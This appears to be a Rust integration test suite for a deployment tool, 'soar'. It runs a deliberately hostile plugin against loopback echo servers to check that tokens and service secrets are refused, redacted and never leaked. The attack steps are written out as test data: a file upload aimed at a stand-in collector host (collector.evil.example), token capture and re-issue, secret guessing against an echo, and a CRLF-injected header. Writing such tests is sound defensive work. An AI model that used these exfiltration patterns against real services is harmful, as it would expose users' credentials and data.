//! The secret promises, through the real `soar` binary: the hostile plugin
//! (installed by path like any third-party provider) runs scripts of
//! requests (`mode = "leak-steps"`) against loopback echo servers, and every
//! byte it got back, everything `soar` printed (at `-vv`), the state
//! database and the plugin's own notes are scanned for the token and the
//! service secret in every encoding the host recognises.
//!
//! The cases are the findings of an independent review (issue 12): issued
//! and captured values made from echoes, trust acquired by a capture,
//! redaction as an oracle, JSON-escaped secrets, a token issued twice,
//! userinfo URLs, SSH to hosts only the plugin named, bodies built before
//! the allow-list, and a user-named `localhost` reaching every port.

use std::io::Read as _;
use std::net::TcpListener;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use serde_json::{Value, json};
use soar_tests::components;
use soar_tests::files::{contains, walk};
use soar_tests::servers::Server;

use crate::support::Home;

/// The declared credential's value (`SOAR_TEST_TOKEN`).
const TOKEN: &str = "canary-token-7f3a9c1e5b2d4086";
/// A service secret with a quote and non-ASCII, as finding 5 used.
const SERVICE: &str = "p\u{e4}ss\"w\u{f6}rd-canary-31";

/// What one `soar` run printed.
#[derive(Debug)]
struct Run {
    code: Option<i32>,
    stdout: String,
    stderr: String,
    /// Peak resident set of the `soar` process, KiB.
    max_rss_kib: i64,
}

impl Run {
    /// The plan's notes (`--json`), one per script step.
    fn notes(&self) -> Vec<Value> {
        self.stdout
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .filter(|v| v["type"] == "note")
            .map(|v| {
                serde_json::from_str(v["message"].as_str().unwrap_or_default())
                    .unwrap_or(v["message"].clone())
            })
            .collect()
    }
}

/// A project using the installed hostile plugin, its "api" endpoint (the
/// credential-bound API) on one echo server and "files" (a declared
/// endpoint the plugin controls) on another.
struct Project {
    home: Home,
    api: Server,
    files: Server,
}

impl Project {
    fn new() -> Self {
        let p = Self {
            home: Home::new()
                .with_var("SOAR_TEST_TOKEN", TOKEN)
                .with_var("LEAKY_SERVICE_SECRET", SERVICE),
            api: Server::start(),
            files: Server::start(),
        };
        std::fs::create_dir_all(p.dir()).unwrap();
        std::fs::write(p.dir().join("app.py"), "print('hi')\n").unwrap();
        let wasm = p.home.path().join("hostile.wasm");
        std::fs::write(&wasm, components::hostile()).unwrap();
        let r = p.soar(&["plugin", "install", wasm.to_str().unwrap(), "--yes"], &[]);
        assert_eq!(r.code, Some(0), "install: {r:#?}");
        p
    }

    fn dir(&self) -> PathBuf {
        self.home.path().join("project")
    }

    /// Write soar.toml with these provider settings for `[env.dev]`.
    fn configure(&self, settings: Value, extra: &str) {
        let mut env = toml::Table::new();
        env.insert("provider".into(), "hostile".into());
        let settings: toml::Table =
            toml::Table::try_from(settings).expect("settings are a TOML table");
        env.extend(settings);
        let mut grants = toml::Table::new();
        let mut endpoints = toml::Table::new();
        endpoints.insert("api".into(), self.api.url().into());
        endpoints.insert("files".into(), self.files.url().into());
        grants.insert("endpoints".into(), endpoints.into());
        env.insert("grants".into(), grants.into());
        let mut envs = toml::Table::new();
        envs.insert("dev".into(), env.into());
        let mut doc = toml::Table::new();
        doc.insert("env".into(), envs.into());
        let text = format!(
            r#"[app]
name = "leaky"

[artifact]
kind = "script"
path = "app.py"
command = "python3 app.py"

[deploy]
service = "web"
secrets = {{ API_KEY = "LEAKY_SERVICE_SECRET" }}
{extra}
{}"#,
            toml::to_string(&doc).unwrap()
        );
        std::fs::write(self.dir().join("soar.toml"), text).unwrap();
    }

    /// `soar plan --json -vv` with a script of steps; stdout, stderr, state
    /// and the plugin's notes all scanned afterwards by the caller.
    fn plan(&self, steps: Value) -> Run {
        self.configure(json!({ "mode": "leak-steps", "steps": steps }), "");
        self.soar(&["plan", "--json", "-vv"], &[])
    }

    fn soar(&self, args: &[&str], env: &[(&str, &str)]) -> Run {
        let mut cmd = self.home.command(&self.dir());
        cmd.args(args).stdout(Stdio::piped()).stderr(Stdio::piped());
        for (k, v) in env {
            cmd.env(k, v);
        }
        run_measured(cmd)
    }

    /// Every byte the run left behind: what it printed and the state
    /// database (journal outcomes, log records, resources).
    fn everything(&self, run: &Run) -> Vec<u8> {
        let mut all = Vec::new();
        all.extend_from_slice(run.stdout.as_bytes());
        all.extend_from_slice(run.stderr.as_bytes());
        for entry in walk(&self.dir().join(".soar")) {
            all.extend(std::fs::read(entry).unwrap_or_default());
        }
        all
    }

    /// Neither secret, in any form, anywhere.
    fn assert_clean(&self, run: &Run) {
        crate::support::leak_scan::assert_no_secret(
            &format!("the run's output or .soar/ ({run:#?})"),
            &self.everything(run),
            &[TOKEN, SERVICE],
        );
    }
}

/// Spawn, watch the child's peak RSS (`support::rss`), collect output.
fn run_measured(mut cmd: Command) -> Run {
    let mut child = cmd.spawn().expect("running soar");
    let mut out = child.stdout.take().unwrap();
    let mut err = child.stderr.take().unwrap();
    let t_out = std::thread::spawn(move || {
        let mut s = String::new();
        let _ = out.read_to_string(&mut s);
        s
    });
    let t_err = std::thread::spawn(move || {
        let mut s = String::new();
        let _ = err.read_to_string(&mut s);
        s
    });
    let peak = crate::support::rss::watch(child.id());
    let status = child.wait().expect("waiting for soar");
    Run {
        code: status.code(),
        stdout: t_out.join().unwrap(),
        stderr: t_err.join().unwrap(),
        max_rss_kib: peak.finish() as i64,
    }
}

fn error_of(note: &Value) -> String {
    note["error"]
        .as_str()
        .unwrap_or_else(|| panic!("the step succeeded: {note}"))
        .to_string()
}

/// Findings 1 and 2: an issued credential made from an echo of the token
/// (or of a service secret) is refused, and the refusal quotes nothing.
#[test]
fn issuing_from_an_echo_is_refused_and_quotes_nothing() {
    let p = Project::new();
    let files = p.files.url();
    let api = p.api.url();
    let run = p.plan(json!([
        // The origin pointer at the reflected Authorization: not a URL, and
        // the message must not say what it was.
        { "url": format!("{api}/echo"), "credential": "token",
          "issue_bearer": ["stolen", "/authorization", "/authorization"] },
        // A valid origin, the token pointer at the reflected Authorization.
        { "url": format!("{api}/echo?to={files}"), "credential": "token",
          "issue_bearer": ["stolen", "/params/to", "/authorization"] },
        { "url": format!("{files}/echo"), "credential": "stolen" },
        // The same with a service secret the API echoes in the body.
        { "method": "post", "url": format!("{api}/echo?to={files}"), "credential": "token",
          "secret": "API_KEY", "issue_bearer": ["stolen2", "/params/to", "/body"] },
        { "url": format!("{files}/echo"), "credential": "stolen2" },
    ]));
    assert_eq!(run.code, Some(0), "{run:#?}");
    let notes = run.notes();
    assert_eq!(notes.len(), 5, "{run:#?}");
    assert!(error_of(&notes[0]).contains("is not a URL"), "{notes:?}");
    assert!(
        error_of(&notes[1]).contains("holds a secret the host already has"),
        "{notes:?}"
    );
    assert!(
        error_of(&notes[2]).contains("neither declared nor captured"),
        "{notes:?}"
    );
    assert!(
        error_of(&notes[3]).contains("holds a secret the host already has"),
        "{notes:?}"
    );
    assert!(
        error_of(&notes[4]).contains("neither declared nor captured"),
        "{notes:?}"
    );
    assert!(p.files.requests().is_empty(), "a secret travelled to files");
    p.assert_clean(&run);
}

/// Finding 3: a capture from a host the plugin controls grants nothing.
#[test]
fn a_capture_grants_no_trust() {
    let p = Project::new();
    let files = p.files.url();
    let run = p.plan(json!([
        { "url": format!("{files}/echo"), "capture": ["mine", "/path"] },
        { "method": "post", "url": format!("{files}/collect"), "body": "k=", "secret": "API_KEY" },
    ]));
    assert_eq!(run.code, Some(0), "{run:#?}");
    let notes = run.notes();
    assert!(
        error_of(&notes[0]).contains("only from its provider's API"),
        "{notes:?}"
    );
    assert!(
        error_of(&notes[1]).contains("may send service secrets only to its provider's API"),
        "{notes:?}"
    );
    // The capture's request went out (it is harmless); the secret did not.
    assert!(p.files.requests().iter().all(|r| r.path != "/collect"));
    p.assert_clean(&run);
}

/// Finding 4: posting guesses to an echo the plugin controls shows every
/// guess back unchanged: nothing tells the right one apart.
#[test]
fn guesses_at_an_echo_learn_nothing() {
    let p = Project::new();
    let mut guesses: Vec<String> = (0..40).map(|i| format!("guess-{i:04}-xxxxxxxx")).collect();
    guesses.insert(17, SERVICE.to_string());
    guesses.insert(29, TOKEN.to_string());
    let run = p.plan(json!([
        // The API is used first, so the host holds both secrets.
        { "method": "post", "url": format!("{}/store", p.api.url()), "credential": "token",
          "body": "k=", "secret": "API_KEY" },
        { "method": "post", "url": format!("{}/echo", p.files.url()), "body": "{guess}",
          "guesses": guesses },
    ]));
    assert_eq!(run.code, Some(0), "{run:#?}");
    let notes = run.notes();
    assert_eq!(notes.len(), 1 + guesses.len());
    for (guess, note) in guesses.iter().zip(&notes[1..]) {
        let body: Value = serde_json::from_str(note["body"].as_str().unwrap()).unwrap();
        assert_eq!(body["body"].as_str(), Some(guess.as_str()), "{note}");
    }
}

/// Finding 5: a secret with a quote and non-ASCII, echoed JSON-escaped with
/// `\u00e4`, is still redacted.
#[test]
fn a_json_escaped_secret_is_redacted() {
    let p = Project::new();
    let api = p.api.url();
    let run = p.plan(json!([
        { "method": "post", "url": format!("{api}/echo-ascii"), "credential": "token",
          "body": "v=", "secret": "API_KEY" },
        { "method": "post", "url": format!("{api}/echo"), "credential": "token",
          "body": "v=", "secret": "API_KEY" },
    ]));
    assert_eq!(run.code, Some(0), "{run:#?}");
    let sent = p.api.requests();
    assert_eq!(
        sent[0].body,
        format!("v={SERVICE}").into_bytes(),
        "the secret was sent"
    );
    let notes = run.notes();
    assert!(
        notes[0]["body"].as_str().unwrap().contains("[redacted]"),
        "{notes:?}"
    );
    p.assert_clean(&run);
}

/// Finding 6 (and 8's JWT): a token captured from the raw answer is itself
/// even when the API hands it out twice; its other copies are scrubbed; an
/// uncaptured JWT from the API is withheld.
#[test]
fn a_token_issued_twice_is_captured_as_itself() {
    let p = Project::new();
    let api = p.api.url();
    let jwt = p.api.jwt();
    let run = p.plan(json!([
        { "url": format!("{api}/jwt"), "credential": "token", "capture": ["up", "/result/jwt"] },
        { "url": format!("{api}/jwt"), "credential": "token", "capture": ["up", "/result/jwt"] },
        { "url": format!("{api}/upload"), "credential": "up" },
        { "url": format!("{api}/jwt?fresh=1"), "credential": "token" },
    ]));
    assert_eq!(run.code, Some(0), "{run:#?}");
    let upload = p
        .api
        .requests()
        .into_iter()
        .find(|r| r.path == "/upload")
        .expect("the upload went out");
    assert_eq!(
        upload.header("authorization"),
        Some(format!("Bearer {jwt}").as_str())
    );
    let all = p.everything(&run);
    let signature = jwt.rsplit('.').next().unwrap();
    assert!(
        !contains(&all, signature.as_bytes()),
        "the JWT leaked:\n{run:#?}"
    );
    let notes = run.notes();
    assert!(
        notes[3]["body"].as_str().unwrap().contains("[jwt withheld"),
        "{notes:?}"
    );
    p.assert_clean(&run);
}

/// Finding 7: a URL with userinfo is refused before connecting.
#[test]
fn userinfo_urls_are_refused() {
    let p = Project::new();
    let with_userinfo = p.api.url().replace("http://", "http://plugin:chosen@");
    let run = p.plan(json!([
        { "url": format!("{with_userinfo}/echo"), "credential": "token" },
        { "url": format!("{with_userinfo}/echo") },
    ]));
    assert_eq!(run.code, Some(0), "{run:#?}");
    for note in run.notes() {
        assert!(error_of(&note).contains("user name or password"), "{note}");
    }
    assert!(p.api.requests().is_empty());
    p.assert_clean(&run);
}

/// A loopback port that counts the connections it accepts.
struct Detector {
    port: u16,
    accepted: Arc<AtomicUsize>,
}

impl Detector {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let accepted = Arc::new(AtomicUsize::new(0));
        let count = accepted.clone();
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                if conn.is_ok() {
                    count.fetch_add(1, Ordering::SeqCst);
                }
            }
        });
        Self { port, accepted }
    }

    fn accepted(&self) -> usize {
        std::thread::sleep(Duration::from_millis(100));
        self.accepted.load(Ordering::SeqCst)
    }
}

/// Findings 9 and 10: hosts only the plugin named are not SSH targets —
/// not when the API never named them, and not when it did but the address
/// is loopback; no connection is made and no host key is learned.
#[test]
fn ssh_goes_only_to_hosts_with_provenance() {
    let p = Project::new();
    let detector = Detector::start();
    let claim = json!([{ "address": "127.0.0.1", "port": detector.port, "user": "root" }]);
    // The plugin names the host in apply and status; the API never did.
    p.configure(json!({ "mode": "ok", "hosts": claim }), "");
    let run = p.soar(&["deploy", "--yes"], &[]);
    assert_ne!(run.code, Some(0), "{run:#?}");
    assert!(
        run.stderr
            .contains("no answer of its API named that address"),
        "{run:#?}"
    );
    // Now the API's answer names it too (the plugin had it echoed): still
    // refused, since the config never named a loopback address.
    p.configure(
        json!({ "mode": "leak-steps", "hosts": claim, "steps": [
            { "url": format!("{}/echo?ip=127.0.0.1", p.api.url()), "credential": "token" },
        ]}),
        "",
    );
    let run2 = p.soar(&["deploy", "--yes"], &[]);
    assert_ne!(run2.code, Some(0), "{run2:#?}");
    assert!(
        run2.stderr.contains("private, loopback or link-local"),
        "{run2:#?}"
    );
    assert_eq!(
        detector.accepted(),
        0,
        "an SSH connection was attempted:\n{run:#?}\n{run2:#?}"
    );
    assert!(
        !p.dir().join(".soar/known_hosts").exists(),
        "a host key was learned"
    );
    p.assert_clean(&run);
    p.assert_clean(&run2);
}

/// Finding 12: a body of 4,000 copies of a 4 MiB file toward a refused URL
/// is refused before it is built; toward an allowed one it is over the cap.
#[test]
fn huge_bodies_are_refused_before_they_are_built() {
    let p = Project::new();
    std::fs::write(p.dir().join("big.bin"), vec![7u8; 4 << 20]).unwrap();
    p.configure(
        json!({ "mode": "leak-steps", "steps": [
            { "method": "post", "url": "https://collector.evil.example/", "files": ["big.bin", 4000] },
            { "method": "post", "url": format!("{}/upload", p.api.url()), "credential": "token",
              "files": ["big.bin", 4000] },
        ]}),
        "",
    );
    let toml = std::fs::read_to_string(p.dir().join("soar.toml"))
        .unwrap()
        .replace("path = \"app.py\"", "path = \"big.bin\"");
    std::fs::write(p.dir().join("soar.toml"), toml).unwrap();
    let run = p.soar(&["plan", "--json"], &[]);
    assert_eq!(run.code, Some(0), "{run:#?}");
    let notes = run.notes();
    assert!(
        error_of(&notes[0]).contains("did not declare this host"),
        "{notes:?}"
    );
    assert!(
        error_of(&notes[1]).contains("over the host's cap"),
        "{notes:?}"
    );
    assert!(p.api.requests().is_empty());
    eprintln!("peak RSS of soar: {} MiB", run.max_rss_kib / 1024);
    assert!(
        run.max_rss_kib < 400 << 10,
        "peak RSS {} KiB",
        run.max_rss_kib
    );
}

/// Finding 15: a user-named `http://localhost:P` authorises that origin
/// only: the plugin's own `https://localhost` endpoint and other ports stay
/// refused, and nothing connects.
#[test]
fn a_named_localhost_authorises_one_origin_only() {
    let p = Project::new();
    let detector = Detector::start();
    let api_port = p.api.url().rsplit(':').next().unwrap().to_string();
    let named = format!("http://localhost:{api_port}");
    p.configure(
        json!({ "mode": "leak-steps", "steps": [
            { "url": format!("{named}/echo"), "credential": "token" },
            { "url": "https://localhost/echo" },
            { "url": format!("http://localhost:{}/", detector.port) },
        ]}),
        "",
    );
    let toml = std::fs::read_to_string(p.dir().join("soar.toml"))
        .unwrap()
        .replace(
            &format!("api = \"{}\"", p.api.url()),
            &format!("api = \"{named}\""),
        );
    std::fs::write(p.dir().join("soar.toml"), toml).unwrap();
    let run = p.soar(&["plan", "--json"], &[]);
    assert_eq!(run.code, Some(0), "{run:#?}");
    let notes = run.notes();
    assert_eq!(notes[0]["status"], 200, "{notes:?}");
    assert!(
        error_of(&notes[1]).contains("private or local address"),
        "{notes:?}"
    );
    assert!(error_of(&notes[2]).contains("may not reach"), "{notes:?}");
    assert_eq!(detector.accepted(), 0);
    p.assert_clean(&run);
}

/// Finding 17's rough edge: a header the host cannot send names the header
/// (and, for a credential, where its value came from) without showing it.
#[test]
fn a_bad_header_is_named_and_a_bad_credential_not_shown() {
    let p = Project::new();
    let api = p.api.url();
    p.configure(
        json!({ "mode": "leak-steps", "steps": [
            { "url": format!("{api}/echo"), "credential": "token" },
            { "url": format!("{api}/echo"), "headers": [["x-note", "line\r\nbreak"]] },
        ]}),
        "",
    );
    let broken = "broken-canary-token\nsecond-line";
    let run = p.soar(&["plan", "--json", "-vv"], &[("SOAR_TEST_TOKEN", broken)]);
    assert_eq!(run.code, Some(0), "{run:#?}");
    let notes = run.notes();
    let e = error_of(&notes[0]);
    assert!(
        e.contains("'authorization' header") && e.contains("environment variable"),
        "{e}"
    );
    let e = error_of(&notes[1]);
    assert!(e.contains("'x-note'"), "{e}");
    assert!(p.api.requests().is_empty());
    let all = p.everything(&run);
    assert!(!contains(&all, b"broken-canary-token"), "{run:#?}");
}
